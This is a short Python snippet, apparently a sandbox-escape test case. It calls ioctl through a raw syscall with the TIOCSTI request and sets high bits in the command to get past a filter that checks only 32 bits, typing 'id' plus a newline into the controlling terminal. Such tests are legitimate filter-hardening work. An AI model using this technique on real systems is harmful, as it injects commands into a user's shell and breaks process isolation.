# The same with bits set above the 32 that the kernel looks at, to slip past a filter.
# needs: terminal
from escape import *
for letter in b"id\n":
    result = syscall(16, 0, 0x5412 | 1 << 32, ctypes.byref(ctypes.c_char(letter)))
print("typed:", name(result))
